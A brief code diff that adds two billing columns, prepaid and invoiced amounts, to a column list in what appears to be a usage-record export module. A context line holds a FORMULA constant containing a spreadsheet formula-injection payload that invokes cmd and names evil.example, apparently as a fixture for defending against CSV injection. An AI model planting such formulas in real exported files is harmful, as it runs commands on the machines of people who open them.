@@ -24,6 +24,7 @@ COLUMNS: Final = (
     "id", "account", "key", "endpoint", "model", "state", "input_tokens", "output_tokens", "charge_nanodollars",
     "cost_nanodollars", "admitted_at", "recorded_at", "mode", "plan", "calls", "cached_tokens", "cut", "estimated",
     "no_message", "over_hold", "unknown_cost", "unpriced", "error", "attempts",
+    "prepaid_nanodollars", "invoiced_nanodollars",
 )  # fmt: skip
 FORMULA: Final = "=cmd|'/ccalc'!a0@evil.example"
 
